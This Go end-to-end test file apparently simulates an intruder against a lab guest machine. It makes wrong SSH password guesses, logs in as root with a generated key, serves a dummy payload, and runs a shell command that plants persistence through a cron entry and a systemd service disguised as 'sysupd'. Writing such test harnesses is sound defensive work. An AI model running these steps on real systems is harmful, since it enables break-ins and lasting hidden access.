package e2e

import (
	"bufio"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	"encoding/json"
	"fmt"
	"net"
	"net/http"
	"os"
	"strconv"
	"strings"
	"time"

	"golang.org/x/crypto/ssh"
)

const guesses = 6

// intruder is the attacker's side: one command a line, one answer a line.
type intruder struct {
	signer ssh.Signer
	kept   []any
}

func runAttacker() error {
	in := bufio.NewScanner(os.Stdin)
	a := &intruder{}
	for in.Scan() {
		var words []string
		if err := json.Unmarshal(in.Bytes(), &words); err != nil || len(words) == 0 {
			return fmt.Errorf("command %q: %w", in.Text(), err)
		}
		answer, err := a.do(words[0])
		if err != nil {
			answer = "failed: " + strings.ReplaceAll(err.Error(), "\n", " ")
		} else {
			answer = "ok " + answer
		}
		fmt.Println(answer)
	}
	return in.Err()
}

func (a *intruder) do(word string) (string, error) {
	switch word {
	case "quiet":
		return "", quiet()
	case "up":
		return "", a.up()
	case "dial":
		d := net.Dialer{KeepAlive: -1, LocalAddr: &net.TCPAddr{IP: net.ParseIP(attackerIP), Port: fixedPort}}
		c, err := d.Dial("tcp4", net.JoinHostPort(guestIP, strconv.Itoa(backdoor)))
		a.kept = append(a.kept, c)
		return "", err
	case "key":
		_, key, err := ed25519.GenerateKey(rand.Reader)
		if err != nil {
			return "", err
		}
		if a.signer, err = ssh.NewSignerFromKey(key); err != nil {
			return "", err
		}
		return strings.TrimSpace(string(ssh.MarshalAuthorizedKey(a.signer.PublicKey()))), nil
	case "guess":
		for i := range guesses {
			if err := a.guess(i); err != nil {
				return "", err
			}
		}
		return "", nil
	case "login":
		return "", a.login()
	}
	return "", fmt.Errorf("unknown command %q", word)
}

// up connects the attacker's end and offers a file and a port for datagrams.
func (a *intruder) up() error {
	if err := up("v1", attackerIP, guestIP, guestMAC); err != nil {
		return err
	}
	udp, err := net.ListenPacket("udp4", attackerIP+":9999")
	if err != nil {
		return err
	}
	l, err := (&net.ListenConfig{KeepAlive: -1}).Listen(context.Background(), "tcp4", attackerIP+":8080")
	if err != nil {
		return err
	}
	a.kept = append(a.kept, udp, l)
	go http.Serve(l, http.HandlerFunc(func(w http.ResponseWriter, _ *http.Request) { //nolint:errcheck // ends with the guest
		w.Write([]byte(strings.Repeat("payload ", 4096))) //nolint:errcheck // the guest checks
	}))
	return nil
}

// dial waits for sshd, which may just be starting.
func (a *intruder) dial(user string, auth ssh.AuthMethod) (*ssh.Client, error) {
	at := net.JoinHostPort(guestIP, strconv.Itoa(sshPort))
	config := &ssh.ClientConfig{User: user, Auth: []ssh.AuthMethod{auth}, HostKeyCallback: ssh.InsecureIgnoreHostKey(), Timeout: 5 * time.Second}
	var c net.Conn
	var err error
	for range 100 {
		if c, err = net.DialTimeout("tcp4", at, 5*time.Second); err == nil {
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	if err != nil {
		return nil, err
	}
	conn, chans, reqs, err := ssh.NewClientConn(c, at, config)
	if err != nil {
		c.Close()
		return nil, err
	}
	return ssh.NewClient(conn, chans, reqs), nil
}

func (a *intruder) guess(i int) error {
	c, err := a.dial("bob", ssh.Password(fmt.Sprint("guess", i)))
	if err == nil {
		c.Close()
		return fmt.Errorf("a guess was right")
	}
	if !strings.Contains(err.Error(), "unable to authenticate") {
		return err
	}
	return nil
}

// login comes in with the key and leaves two ways to come back.
func (a *intruder) login() error {
	c, err := a.dial("root", ssh.PublicKeys(a.signer))
	if err != nil {
		return err
	}
	a.kept = append(a.kept, c) // and stays
	s, err := c.NewSession()
	if err != nil {
		return err
	}
	defer s.Close()
	out, err := s.CombinedOutput(`echo '* * * * * root /usr/local/bin/sysupd' > /etc/cron.d/sysupd
{ echo '[Service]'; echo 'ExecStart=/usr/local/bin/sysupd'; echo '[Install]'; echo 'WantedBy=multi-user.target'; } > /etc/systemd/system/sysupd.service`)
	if err != nil {
		return fmt.Errorf("%w: %s", err, out)
	}
	return nil
}
